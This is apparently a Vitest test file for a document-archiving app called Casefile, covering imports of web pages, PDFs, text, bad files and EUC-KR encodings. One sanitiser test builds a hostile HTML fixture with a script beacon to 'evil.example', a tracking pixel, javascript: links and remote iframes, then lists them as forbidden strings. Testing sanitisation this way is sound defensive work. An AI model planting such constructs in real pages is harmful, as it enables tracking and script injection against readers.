// Capture of every format through the contract, on real files: the web-page corpus with its
// expected metadata, the seed text, a PDF built here, and the bad inputs an analyst will meet.
import { createHash } from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ImportResult } from '../../../shared/contract/schemas';
import { Backend } from '../backend';
import { makePdf } from '../testing/makePdf';
import { librarySnapshot, openTestBackend, SEED_PATH, tempDir, tempLibraryPath } from '../testing/tempLibrary';

const CORPUS = path.resolve(import.meta.dirname, '../../../../shared/corpus/web-pages');
const PAGES = fs
  .readdirSync(CORPUS)
  .filter((n) => fs.statSync(path.join(CORPUS, n)).isDirectory())
  .sort();

/** Fields where our result differs from Readability's expectations on purpose, with the reason. */
const KNOWN_MISMATCHES: Record<string, Record<string, string>> = {};

async function importPaths(backend: Backend, paths: string[], metadata = {}): Promise<ImportResult> {
  const { jobId } = await backend.call('articles.importFiles', { paths, metadata });
  const state = await backend.jobs.wait(jobId);
  return state.result as ImportResult;
}

describe('web pages', () => {
  // The corpus is imported once, as one folder job, and every page's test reads from that library:
  // thirty separate libraries and jobs made this file the slowest of the suite.
  let backend: Backend;
  let dir: string;
  let first: ImportResult;
  const progress: number[] = [];
  /** The article made from a page, found by the SHA-256 of its bytes. */
  const idOf = (name: string) => {
    const sha256 = createHash('sha256')
      .update(fs.readFileSync(path.join(CORPUS, name, 'source.html')))
      .digest('hex');
    return first.imported.find((a) => a.sha256 === sha256)?.id;
  };

  beforeAll(async () => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'casefile-corpus-'));
    backend = new Backend({ libraryPath: path.join(dir, 'library.casefile'), analyst: 'Test Analyst' });
    backend.onEvent((event, payload) => {
      if (event === 'job.progress') progress.push((payload as { progress: { done: number } }).progress.done);
    });
    first = await importPaths(backend, [CORPUS]);
  }, 300_000);

  afterAll(async () => {
    await backend?.close();
    fs.rmSync(dir, { recursive: true, force: true });
  });

  it('the whole corpus imports as one folder job with progress, and again as duplicates', async () => {
    // Every page, plus the corpus's licence file (Markdown is importable too).
    expect(first.imported).toHaveLength(PAGES.length + 1);
    expect(first.failed).toEqual([]);
    expect(progress.length).toBeGreaterThanOrEqual(PAGES.length);
    const second = await importPaths(backend, [CORPUS]);
    expect(second.imported).toEqual([]);
    expect(second.duplicates.map((d) => d.id).sort()).toEqual(first.imported.map((a) => a.id).sort());
  }, 300_000);

  it.each(PAGES)('%s imports with the expected metadata', async (name) => {
    const expected = JSON.parse(fs.readFileSync(path.join(CORPUS, name, 'expected-metadata.json'), 'utf8')) as Record<
      string,
      string | null
    >;
    const id = idOf(name);
    expect(id, `${name} was not imported`).toBeDefined();
    const article = await backend.call('articles.get', { id: id! });
    const got: Record<string, string | null> = {
      title: article.detected.title ?? null,
      byline: article.detected.byline ?? null,
      siteName: article.detected.siteName ?? null,
      publishedTime: article.detected.published?.value ?? null,
      lang: article.detected.language ?? null,
    };
    const want: Record<string, string | null> = {
      title: expected.title || null,
      byline: expected.byline || null,
      siteName: expected.siteName || null,
      publishedTime: expected.publishedTime?.slice(0, 10) ?? null,
      // Pages whose expectations carry no language are scored on the other fields only.
      lang: 'lang' in expected ? (expected.lang ?? null) : (got.lang ?? null),
    };
    const known = KNOWN_MISMATCHES[name] ?? {};
    for (const field of Object.keys(want)) {
      if (known[field]) continue;
      expect(got[field], `${name}: ${field}`).toBe(want[field]);
    }
    // Applied to the article where the analyst gave nothing.
    expect(article.title).toBe(want.title ?? '');
    expect(article.captureMethod).toBe('file-html');
    expect(article.extractor).toMatch(/^@mozilla\/readability \d/);
    expect(article.text.length).toBeGreaterThan(0);
    if (expected.dir === 'rtl') expect(article.textDirection).toBe('rtl');
  });

  it('serves the Original view with nothing that runs or fetches', async () => {
    const backend = openTestBackend();
    const dir = tempDir();
    const page = path.join(dir, 'hostile.html');
    fs.writeFileSync(
      page,
      `<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
      <link rel="stylesheet" href="https://evil.example/s.css"><style>body{background:url(https://evil.example/bg.png)}</style>
      <script>fetch('https://evil.example/beacon')</script></head>
      <body><article><h1>Report</h1><p onclick="alert(1)" style="background-image:url('https://evil.example/p.png')">Smuggling via Hyesan continued.</p>
      <img src="https://tracker.example/pixel.gif" alt="pixel"><img src="data:image/png;base64,AAAA">
      <a href="javascript:alert(1)">js</a> <a href="https://news.example/story">story</a>
      <iframe src="https://evil.example/frame"></iframe><form action="https://evil.example/post"><input name="q"></form>
      <object data="https://evil.example/x.swf"></object><svg><image href="https://evil.example/i.svg"/></svg>
      <p>More text about the customs office in Ryanggang Province to make the article long enough.</p></article></body></html>`,
    );
    const { imported } = await importPaths(backend, [page]);
    const view = await backend.call('articles.originalView', { id: imported[0]!.id });
    expect(view.html).toContain('Smuggling via Hyesan continued.');
    const body = view.html!.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '');
    for (const forbidden of [
      '<script',
      '<base',
      'http-equiv="refresh"',
      '<link',
      '<iframe',
      '<form',
      '<object',
      '<svg',
      'onclick',
      'url(',
      'javascript:',
      'src=',
      'href=',
      'evil.example',
      'tracker.example',
    ]) {
      expect(body, forbidden).not.toContain(forbidden);
    }
    expect(view.html).toContain("default-src 'none'");
    expect(view.html).toContain('Link (not followed): https://news.example/story');
  });
});

describe('plain text and PDFs', () => {
  it('detects the seed’s translator and fills it in for a file import', async () => {
    const backend = openTestBackend();
    const { imported } = await importPaths(backend, [SEED_PATH], { publisher: 'Daily NK' });
    const article = await backend.call('articles.get', { id: imported[0]!.id });
    expect(article.translator).toBe('Violet Kim');
    expect(article.detected).toMatchObject({
      translator: 'Violet Kim',
      emails: ['dailynkenglish@uni-media.net'],
      otherEditions: ['Korean'],
      language: 'en',
    });
    expect(article.language).toBe('en');
    expect(article.charset).toBe('utf-8');
  });

  it('keeps what the analyst typed over what was detected, and stores the detection for later', async () => {
    const backend = openTestBackend();
    const text = fs.readFileSync(SEED_PATH, 'utf8');
    const { article } = await backend.call('articles.createFromText', { text, translator: '' });
    expect(article.translator).toBe('');
    expect(article.detected.translator).toBe('Violet Kim');
  });

  it('imports a PDF with its pages and metadata', async () => {
    const backend = openTestBackend();
    const file = path.join(tempDir(), 'report.pdf');
    fs.writeFileSync(
      file,
      makePdf(
        [['Hyesan customs office report', 'Masks arrived on Mar. 6'], ['Second page: magnesia clinker at night']],
        { title: 'Border report', author: 'Jane Roe', created: '20200306' },
      ),
    );
    const { imported, failed } = await importPaths(backend, [file]);
    expect(failed).toEqual([]);
    const article = await backend.call('articles.get', { id: imported[0]!.id });
    expect(article).toMatchObject({
      title: 'Border report',
      byline: 'Jane Roe',
      published: { value: '2020-03-06' },
      captureMethod: 'file-pdf',
      mediaType: 'application/pdf',
    });
    expect(article.pageStarts).toHaveLength(2);
    const second = Array.from(article.text).slice(article.pageStarts[1]!).join('');
    expect(second.startsWith('Second page: magnesia clinker')).toBe(true);
    expect(article.extractor).toMatch(/^pdfjs-dist \d/);
    expect((await backend.call('search.query', { query: 'clinker' })).results[0]!.id).toBe(article.id);
  });
});

describe('bad input', () => {
  it('refuses each bad file with its reason and leaves the library byte-identical', async () => {
    const libraryPath = tempLibraryPath();
    const backend = openTestBackend(libraryPath);
    await backend.call('articles.createFromText', { text: 'An article already in the library.' });
    const dir = tempDir();
    const files: Record<string, string | Buffer> = {
      'empty.txt': '',
      'binary.html': Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52]),
      'fake.pdf': '<html>this is not a pdf</html>',
      'broken.pdf': '%PDF-1.4\n1 0 obj garbage',
      'not-a-page.html': 'just words, no markup at all',
      'scripts-only.html': '<html><body><script>document.write("hi")</script></body></html>',
      'notes.docx': 'PK\u0003\u0004',
    };
    for (const [name, content] of Object.entries(files)) fs.writeFileSync(path.join(dir, name), content);
    // A 50 MB text file (sparse, so the test writes nothing): refused by size before it is read.
    fs.closeSync(fs.openSync(path.join(dir, 'huge.txt'), 'w'));
    fs.truncateSync(path.join(dir, 'huge.txt'), 50 * 1024 * 1024);
    backend.library.db.pragma('wal_checkpoint(TRUNCATE)');
    const before = librarySnapshot(libraryPath);
    const result = await importPaths(backend, [
      ...Object.keys(files).map((f) => path.join(dir, f)),
      path.join(dir, 'huge.txt'),
      path.join(dir, 'missing.txt'),
    ]);
    expect(result.imported).toEqual([]);
    const reasons = Object.fromEntries(result.failed.map((f) => [path.basename(f.path), f.error]));
    expect(reasons).toEqual({
      'missing.txt': expect.stringMatching(/does not exist/),
      'empty.txt': expect.stringMatching(/is empty/),
      'binary.html': expect.stringMatching(/binary data/),
      'fake.pdf': expect.stringMatching(/not a PDF/),
      'broken.pdf': expect.stringMatching(/could not be read as a PDF/),
      'not-a-page.html': expect.stringMatching(/does not look like a web page/),
      'scripts-only.html': expect.stringMatching(/no readable text/),
      'notes.docx': expect.stringMatching(/cannot import \.docx/),
      'huge.txt': expect.stringMatching(/is 50 MB; Casefile imports files of this type up to 32 MB/),
    });
    backend.library.db.pragma('wal_checkpoint(TRUNCATE)');
    expect(librarySnapshot(libraryPath)).toBe(before);
  });

  it('decodes declared and recognisable legacy encodings instead of mangling them', async () => {
    const backend = openTestBackend();
    const dir = tempDir();
    const korean =
      '양강도 혜산시에서 밀수가 계속되고 있다고 소식통이 전했다. 세관을 통해 마스크와 전자제품이 들어왔다.';
    // Node can decode EUC-KR but not encode it, so iconv writes the legacy bytes.
    const html = `<html><head><meta charset="euc-kr"><title>t</title></head><body><article><p>${korean}</p></article></body></html>`;
    const { execFileSync } = await import('node:child_process');
    const encoded = execFileSync('iconv', ['-f', 'UTF-8', '-t', 'EUC-KR'], { input: html });
    fs.writeFileSync(path.join(dir, 'korean.html'), encoded);
    fs.writeFileSync(
      path.join(dir, 'korean.txt'),
      execFileSync('iconv', ['-f', 'UTF-8', '-t', 'EUC-KR'], { input: korean.repeat(5) }),
    );
    const { imported, failed } = await importPaths(backend, [
      path.join(dir, 'korean.html'),
      path.join(dir, 'korean.txt'),
    ]);
    expect(failed).toEqual([]);
    const page = await backend.call('articles.get', { id: imported[0]!.id });
    expect(page.text).toContain('혜산시에서');
    expect(page.charset).toBe('euc-kr (declared)');
    const text = await backend.call('articles.get', { id: imported[1]!.id });
    expect(text.text.startsWith(korean)).toBe(true);
    expect(text.charset).toMatch(/^euc-kr \(detected/);
    expect((await backend.call('search.query', { query: '혜산' })).results).toHaveLength(2);
  });

  it('imports a folder of thousands of files, and cancelling leaves only whole articles', async () => {
    const backend = openTestBackend();
    const dir = tempDir();
    for (let i = 0; i < 2000; i++)
      fs.writeFileSync(
        path.join(dir, `report-${String(i).padStart(4, '0')}.txt`),
        `Report ${i} about the Hyesan customs office.`,
      );
    const { jobId } = await backend.call('articles.importFiles', { paths: [dir] });
    const stop = backend.onEvent((event, payload) => {
      if (event === 'job.progress' && (payload as { progress: { done: number } }).progress.done >= 300)
        void backend.call('jobs.cancel', { jobId });
    });
    const state = await backend.jobs.wait(jobId);
    stop();
    expect(state.status).toBe('cancelled');
    const result = state.result as ImportResult;
    expect(result.imported.length).toBeGreaterThanOrEqual(300);
    expect(result.imported.length).toBeLessThan(2000);
    const { total } = await backend.call('articles.list', {});
    expect(total).toBe(result.imported.length);
    expect((await backend.call('library.verify', {})).ok).toBe(true);
  }, 120_000);
});
